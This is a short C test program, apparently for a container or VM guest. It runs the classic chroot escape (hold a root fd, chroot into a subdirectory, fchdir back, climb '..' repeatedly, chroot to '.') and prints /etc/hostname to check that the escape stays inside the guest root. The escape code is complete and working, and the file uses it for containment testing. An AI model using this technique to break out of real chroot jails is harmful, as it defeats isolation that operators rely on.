/* The paper's chroot escape, run inside a guest: keep a directory fd,
 * chroot into a subdirectory, fchdir back to the held fd, climb with ".."
 * a thousand times, chroot(".") and report where we landed. In a guest
 * whose old root was detached after pivot_root this must end inside the
 * guest root. Prints the content of /etc/hostname of wherever it ended. */
#include <fcntl.h>
#include <stdio.h>
#include <sys/stat.h>
#include <unistd.h>

int main(void) {
    mkdir("/tmp/escape-sub", 0700);
    int fd = open("/", O_RDONLY | O_DIRECTORY);
    if (fd < 0 || chroot("/tmp/escape-sub") != 0) { perror("setup"); return 2; }
    if (fchdir(fd) != 0) { perror("fchdir"); return 2; }
    for (int i = 0; i < 1000; i++) chdir("..");
    if (chroot(".") != 0) { perror("chroot ."); return 2; }
    char buf[256] = {0};
    FILE *f = fopen("/etc/hostname", "r");
    if (!f) { perror("/etc/hostname"); return 3; }
    if (!fgets(buf, sizeof buf, f)) return 3;
    fputs(buf, stdout);
    return 0;
}
